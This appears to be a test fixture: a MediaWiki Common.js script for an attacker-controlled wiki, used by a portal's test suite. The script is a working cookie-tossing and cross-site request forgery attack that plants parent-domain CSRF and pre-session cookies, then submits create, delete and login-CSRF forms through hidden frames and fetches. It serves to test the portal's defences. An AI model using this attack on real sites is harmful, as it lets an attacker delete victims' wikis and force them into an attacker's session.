/* MediaWiki:Common.js of the attacker's wiki in tests/portal.rs (placeholders filled in there).
 * For whoever opens the wiki: toss cookies for the parent domain, then post the portal's
 * create, delete and login forms with every token the attacker has, as fetches and as real
 * form submissions into hidden frames. Marks <body data-farm-attack="done"> at the end. */
( function () {
	var portal = '__PORTAL__';
	var tokens = [ __TOKENS__ ];
	var log = [];
	// The old double-submit pair, and the attacker's own pre-session (its login token is his),
	// for the parent domain; with the forms' own paths too, which the browser sends before the
	// portal's own cookies of the same name (longer paths first).
	[ '/', '/wikis/new', '/wikis/__VICTIM_WIKI__/delete', '/login' ].forEach( function ( path ) {
		document.cookie = 'farm_csrf=' + tokens[ 0 ] + '; domain=__DOMAIN__; path=' + path;
		document.cookie = 'farm_presession=__PRESESSION__; domain=__DOMAIN__; path=' + path;
	} );
	function post( path, fields ) {
		return fetch( portal + path, {
			method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams( fields )
		} ).then( function () {
			log.push( path + ' sent' );
		}, function ( error ) {
			log.push( path + ' failed: ' + error );
		} );
	}
	function submit( path, fields ) {
		var frame = document.createElement( 'iframe' );
		frame.name = 'attack' + Math.random().toString( 36 ).slice( 2 );
		frame.style.display = 'none';
		document.body.appendChild( frame );
		var form = document.createElement( 'form' );
		form.method = 'POST';
		form.action = portal + path;
		form.target = frame.name;
		Object.keys( fields ).forEach( function ( name ) {
			var input = document.createElement( 'input' );
			input.type = 'hidden';
			input.name = name;
			input.value = fields[ name ];
			form.appendChild( input );
		} );
		document.body.appendChild( form );
		form.submit();
	}
	var sent = [];
	tokens.forEach( function ( csrf ) {
		var create = { csrf: csrf, name: 'stolen-wiki', sitename: 'Stolen', language: 'en' };
		var remove = { csrf: csrf, confirm: 'yes' };
		var login = { csrf: csrf, login: 'mallory', password: '__PASSWORD__' };
		submit( '/wikis/new', create );
		submit( '/wikis/__VICTIM_WIKI__/delete', remove );
		sent.push( post( '/wikis/new', create ), post( '/wikis/__VICTIM_WIKI__/delete', remove ), post( '/login', login ) );
	} );
	Promise.all( sent ).then( function () {
		// The framed submissions have no promise: give them a moment.
		setTimeout( function () {
			document.body.setAttribute( 'data-farm-attack-log', log.join( '; ' ) );
			document.body.setAttribute( 'data-farm-attack', 'done' );
		}, 2000 );
	} );
}() );
